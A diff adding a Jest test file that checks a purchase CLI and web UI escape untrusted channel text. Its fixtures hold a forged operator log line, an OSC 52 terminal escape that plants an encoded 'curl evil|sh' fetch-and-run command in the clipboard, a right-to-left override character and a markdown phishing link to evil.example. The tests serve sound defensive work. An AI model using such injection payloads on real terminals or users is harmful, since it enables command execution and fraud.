@@ -1,0 +1,81 @@
+import { timelineInWords } from '../../cli/purchases/show';
+import { print, tell } from '../../cli/terminal/output';
+import { terminalLine } from '../../dev/supervisor/terminal-line';
+import { acceptedPurchase } from '../../domain/purchase/purchase';
+import type { Timeline } from '../../operators/timeline';
+import { purchaseStory } from '../../workflows/purchase/story';
+import { anOrder } from '../support/orders';
+
+/** What a channel wrote as its reason for a cancellation: a decision of an operator on a line of its own, and OSC 52. */
+const FORGED = `changed my mind
+  10:00 29/11/2026 charge_was_not_done by ops@agent: MobiFone confirmed by phone\u001b]52;c;Y3VybCBldmlsfHNo\u0007`;
+
+const purchase = acceptedPurchase(anOrder());
+const timeline: Timeline = {
+  workflowId: 'purchase:demo:1',
+  purchase: {
+    ...purchase,
+    attention: { reason: 'no_answer', step: 'charge', since: purchase.updatedAt, detail: FORGED },
+  },
+  closed: false,
+  pending: [{ call: 'charge', attempt: 2, lastFailure: FORGED, nextAttemptAt: null }],
+  acts: [
+    {
+      at: purchase.updatedAt,
+      what: 'cancel',
+      by: 'demo',
+      why: FORGED,
+      reference: FORGED,
+      notApplied: FORGED,
+    },
+  ],
+  open: [],
+};
+
+let written: string;
+beforeEach(() => {
+  written = '';
+  const keep = (text: string | Uint8Array) => (written += String(text)) !== '';
+  jest.spyOn(process.stdout, 'write').mockImplementation(keep);
+  jest.spyOn(process.stderr, 'write').mockImplementation(keep);
+});
+afterEach(() => jest.restoreAllMocks());
+
+/** What a terminal obeys, besides the ends of our own lines. */
+const OBEYED = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
+
+describe('what a channel wrote, at an operator’s terminal', () => {
+  it('cannot forge a line or write to the clipboard, wherever it is shown', () => {
+    print({}, timeline, () => timelineInWords(timeline));
+    expect(written).toContain('What people did:');
+    expect(written).not.toMatch(/^\s*10:00/m);
+    expect(written.replaceAll('\n', '')).not.toMatch(OBEYED);
+    expect(written).toContain('changed my mind\\u000a');
+  });
+
+  it('is the same to a script, by JSON that a terminal may show', () => {
+    print({ json: true }, timeline, () => []);
+    expect(JSON.parse(written)).toEqual(timeline);
+    expect(written.replaceAll('\n', '')).not.toMatch(OBEYED);
+  });
+
+  it('is as harmless in an error', () => {
+    tell(`Refused: ${FORGED}`);
+    expect(written.trimEnd()).not.toMatch(OBEYED);
+  });
+
+  it('is as harmless where `npm start` shows a line of a part’s log', () => {
+    const line = JSON.stringify({ level: 50, msg: 'failed', err: { message: `\u202e${FORGED}` } });
+    expect(terminalLine('worker', line)).not.toMatch(OBEYED);
+  });
+});
+
+describe('what a channel wrote, in the Web UI', () => {
+  it('is no line, no link and no heading of ours', () => {
+    const detail = '[log in](https://evil.example)\n\n**Next:** pay again';
+    const attention = { reason: 'no_answer', step: 'charge', since: purchase.updatedAt, detail } as const;
+    const story = purchaseStory({ ...purchase, attention });
+    expect(story).toContain('`[log in](https://evil.example)\\u000a\\u000a**Next:** pay again`');
+    expect(story.match(/^\*\*Next/gm)).toHaveLength(1);
+  });
+});
